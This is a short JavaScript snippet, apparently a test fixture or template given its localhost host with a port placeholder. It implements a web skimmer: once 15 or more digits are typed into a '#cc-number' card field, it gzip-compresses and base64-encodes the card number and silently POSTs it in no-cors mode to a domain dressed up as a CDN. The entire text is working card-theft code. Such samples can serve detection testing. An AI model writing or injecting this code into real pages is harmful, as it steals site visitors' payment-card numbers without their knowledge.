/* tw:skim-gzip */
document.querySelector('#cc-number').addEventListener('input', async function () {
  if (this.value.length < 15) return
  var packed = await new Response(new Blob([JSON.stringify({ n: this.value, at: Date.now() })]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()
  fetch('http://cdn-pack.localhost:{{port}}/z', { method: 'POST', mode: 'no-cors', body: btoa(String.fromCharCode.apply(null, new Uint8Array(packed))) })
})
